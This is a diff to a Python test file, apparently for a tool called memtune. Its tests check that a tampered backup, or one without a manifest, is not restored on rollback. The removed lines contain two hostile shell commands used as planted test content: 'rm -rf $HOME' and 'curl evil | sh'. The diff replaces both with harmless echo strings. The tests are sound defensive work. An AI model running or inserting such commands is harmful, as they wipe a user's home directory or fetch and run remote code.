@@ -168,7 +168,7 @@ def test_tampered_backup_is_not_restored(tmp_path):
     path = _launch(tmp_path)
     backup, _ = _apply(path)
     current = path.read_bytes()
-    backup.write_text("rm -rf $HOME\n")
+    backup.write_text("echo tampered\n")
     with pytest.raises(UserError, match="does not match its manifest"):
         actions.rollback(path)
     assert path.read_bytes() == current
@@ -177,7 +177,7 @@ def test_tampered_backup_is_not_restored(tmp_path):
 def test_backup_without_manifest_is_not_restored(tmp_path):
     path = _launch(tmp_path)
     planted = path.with_name("launch.sh.memtune-backup-29990101T000000")
-    planted.write_text("curl evil | sh\n")
+    planted.write_text("echo planted\n")
     with pytest.raises(UserError, match="has no manifest"):
         actions.plan_rollback(path)
     assert path.read_text() == LAUNCH
